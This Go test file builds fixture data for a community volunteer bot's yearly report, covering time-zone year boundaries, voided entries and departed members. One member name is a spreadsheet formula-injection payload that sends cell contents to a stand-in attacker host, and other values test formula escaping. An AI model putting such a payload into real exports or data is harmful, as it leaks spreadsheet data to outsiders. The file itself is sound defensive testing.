package report_test

import (
	"fmt"
	"time"

	lamplighter "github.com/lamplighter-bot/lamplighter"
	"github.com/lamplighter-bot/lamplighter/report"
)

// formulaName is a member name that a spreadsheet would run as a formula.
const formulaName = `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`

var shanghai = mustZone("Asia/Shanghai")

func mustZone(name string) *time.Location {
	loc, err := time.LoadLocation(name)
	if err != nil {
		panic(fmt.Sprintf("load zone %s: %v", name, err))
	}
	return loc
}

// sh is a wall-clock time in Shanghai.
func sh(y int, mo time.Month, d, h, mi int) time.Time {
	return time.Date(y, mo, d, h, mi, 0, 0, shanghai)
}

// utc is a wall-clock time in UTC.
func utc(y int, mo time.Month, d, h, mi int) time.Time {
	return time.Date(y, mo, d, h, mi, 0, 0, time.UTC)
}

// afterExport is a "now" well after 2026, so that 2026 is a past year.
var afterExport = utc(2027, 3, 1, 9, 0)

// dongan is a Shanghai community with a bit of everything: a member who left
// mid-year, a forgotten member, a voided participation, a service dated 31
// December, a formula-looking name, Chinese names, members who joined and
// claims released just after midnight in Shanghai (still the old year in
// UTC), and M10 after M2.
func dongan() report.CommunityData {
	c := lamplighter.Community{ID: "dongan", Name: "东安社区", TimeZone: "Asia/Shanghai", Language: "zh", Minimum: 2, PostMinimum: 1}
	ms := []lamplighter.Member{
		// Out of order on purpose: rows come by member number.
		{ID: "M10", Community: "dongan", Name: "Chen Jing", Unit: "No. 2 Middle School", Building: "7",
			Joined: sh(2026, 1, 1, 1, 0), Status: lamplighter.StatusActive}, // 2025-12-31 17:00 UTC
		{ID: "M1", Community: "dongan", TelegramID: 1001, Name: "王芳", Unit: "工商银行东安支行", Building: "3栋",
			Joined: sh(2025, 3, 1, 10, 0), Status: lamplighter.StatusActive},
		{ID: "M2", Community: "dongan", TelegramID: 1002, Name: "李明", Unit: "区司法局", Building: "5栋",
			Joined: sh(2025, 3, 1, 10, 5), Status: lamplighter.StatusActive, Role: lamplighter.RoleSecretary},
		{ID: "M3", Community: "dongan", TelegramID: 1003, Name: "张伟", Unit: "供电公司", Building: "1栋",
			Joined: sh(2024, 5, 1, 9, 0), Status: lamplighter.StatusLeft, Left: sh(2026, 6, 30, 18, 0)},
		{ID: "M4", Community: "dongan", Name: "", Joined: sh(2025, 4, 1, 9, 0),
			Status: lamplighter.StatusForgotten, Left: sh(2026, 9, 1, 12, 0)},
		{ID: "M5", Community: "dongan", TelegramID: 1005, Name: formulaName, Unit: "+86 Trading", Building: "@roof",
			Joined: sh(2025, 12, 20, 9, 0), Status: lamplighter.StatusActive},
		{ID: "M6", Community: "dongan", TelegramID: 1006, Name: "赵磊", Joined: sh(2024, 1, 1, 9, 0),
			Status: lamplighter.StatusLeft, Left: sh(2025, 11, 1, 9, 0)}, // gone before 2026
		{ID: "M7", Community: "dongan", TelegramID: 1007, Name: "孙丽", Joined: sh(2027, 1, 5, 9, 0),
			Status: lamplighter.StatusActive}, // joined after 2026
	}
	ps := []lamplighter.Participation{
		{Member: "M1", Kind: lamplighter.KindActivity, Ref: "A1", Title: "社区清洁日", Date: "2026-03-14",
			Method: lamplighter.MethodCode, At: sh(2026, 3, 14, 9, 10)},
		{Member: "M1", Kind: lamplighter.KindService, Ref: "S1", Title: "为19栋修好32盏路灯\n（夜间）", Date: "2026-12-31",
			Method: lamplighter.MethodApproval, VerifiedBy: "M2", At: sh(2027, 1, 2, 10, 0)},
		{Member: "M2", Kind: lamplighter.KindActivity, Ref: "A1", Title: "社区清洁日", Date: "2026-03-14",
			Method: lamplighter.MethodLocation, VerifiedBy: "M9", At: sh(2026, 3, 14, 9, 5)}, // VerifiedBy must not show
		{Member: "M2", Kind: lamplighter.KindActivity, Ref: "A2", Title: "@everyone: flood drill", Date: "2026-05-01",
			Method: lamplighter.MethodManual, VerifiedBy: "M1", At: sh(2026, 5, 2, 8, 0), Note: "forgot phone"},
		// Recorded 2025-12-31 16:30 UTC: 2026-01-01 in Shanghai, so it belongs to 2026.
		{Member: "M2", Kind: lamplighter.KindActivity, Ref: "A3", Title: "New Year lantern walk", Date: "2026-01-01",
			Method: lamplighter.MethodCode, At: utc(2025, 12, 31, 16, 30)},
		{Member: "M2", Kind: lamplighter.KindActivity, Ref: "A4", Title: "wrong entry", Date: "2026-07-01",
			Method: lamplighter.MethodManual, VerifiedBy: "M1", At: sh(2026, 7, 1, 10, 0),
			Voided: true, VoidedBy: "M1", VoidReason: "not there"},
		{Member: "M3", Kind: lamplighter.KindActivity, Ref: "A3", Title: "New Year lantern walk", Date: "2026-01-01",
			Method: lamplighter.MethodCode, At: utc(2025, 12, 31, 16, 40)},
		{Member: "M4", Kind: lamplighter.KindActivity, Ref: "A1", Title: "社区清洁日", Date: "2026-03-14",
			Method: lamplighter.MethodCode, At: sh(2026, 3, 14, 9, 20)},
		{Member: "M4", Kind: lamplighter.KindService, Ref: "S2", Title: "-5°C: cleared ice at gate", Date: "2026-02-02",
			Method: lamplighter.MethodApproval, VerifiedBy: "M2", At: sh(2026, 2, 3, 9, 0)},
		{Member: "M5", Kind: lamplighter.KindActivity, Ref: "A0", Title: "Winter fair", Date: "2025-12-31",
			Method: lamplighter.MethodCode, At: sh(2025, 12, 31, 15, 0)}, // 2025: not in 2026
		{Member: "M5", Kind: lamplighter.KindService, Ref: "S3", Title: "=1+1", Date: "2026-12-31",
			Method: lamplighter.MethodApproval, VerifiedBy: "M2", At: sh(2026, 12, 31, 20, 0)},
		{Member: "M5", Kind: lamplighter.KindActivity, Ref: "A1", Title: "社区清洁日", Date: "2026-03-14",
			Method: lamplighter.MethodCode, At: sh(2026, 3, 14, 9, 30)},
		{Member: "M10", Kind: lamplighter.KindActivity, Ref: "A2", Title: "@everyone: flood drill", Date: "2026-05-01",
			Method: lamplighter.MethodCode, At: sh(2026, 5, 1, 9, 0)},
	}
	cl := []lamplighter.Claim{
		{Post: "P1", Member: "M1", Claimed: sh(2025, 3, 2, 9, 0)},
		// Released 2026-01-01 01:00 in Shanghai: held at the end of 2025 there, not in UTC.
		{Post: "P4", Member: "M1", Claimed: sh(2025, 1, 2, 9, 0), Released: sh(2026, 1, 1, 1, 0)},
		{Post: "P2", Member: "M2", Claimed: sh(2025, 3, 2, 9, 0), Released: sh(2026, 6, 1, 9, 0)},
		{Post: "P1", Member: "M3", Claimed: sh(2024, 5, 2, 9, 0), Released: sh(2026, 6, 30, 18, 0)},
		{Post: "P3", Member: "M4", Claimed: sh(2025, 4, 2, 9, 0), Released: sh(2026, 9, 1, 12, 0)},
		{Post: "P3", Member: "M5", Claimed: sh(2025, 12, 21, 9, 0)},
		{Post: "P2", Member: "M5", Claimed: sh(2025, 12, 21, 9, 0)},
		{Post: "P3", Member: "M10", Claimed: sh(2026, 1, 2, 9, 0)},
	}
	for i := range ps {
		ps[i].Community = "dongan"
	}
	return report.CommunityData{Community: c, Members: ms, Participations: ps, Claims: cl}
}

// riverside is a UTC community with English names and no post minimum.
func riverside() report.CommunityData {
	c := lamplighter.Community{ID: "riverside", Name: "Riverside", TimeZone: "UTC", Language: "en", Minimum: 1, PostMinimum: 0}
	ms := []lamplighter.Member{
		{ID: "M1", Community: "riverside", TelegramID: 2001, Name: "Alice O'Neil", Unit: "Acme, Inc.", Building: "B",
			Joined: utc(2025, 6, 1, 10, 0), Status: lamplighter.StatusActive},
		// 2026-12-31 20:00 UTC: still 2026 here (it would be 2027 in Shanghai).
		{ID: "M2", Community: "riverside", TelegramID: 2002, Name: "Bob", Joined: utc(2026, 12, 31, 20, 0),
			Status: lamplighter.StatusActive},
	}
	ps := []lamplighter.Participation{
		{Community: "riverside", Member: "M1", Kind: lamplighter.KindActivity, Ref: "A1", Title: `Park "clean-up"`,
			Date: "2026-12-31", Method: lamplighter.MethodCode, At: utc(2026, 12, 31, 23, 30)},
	}
	return report.CommunityData{Community: c, Members: ms, Participations: ps}
}
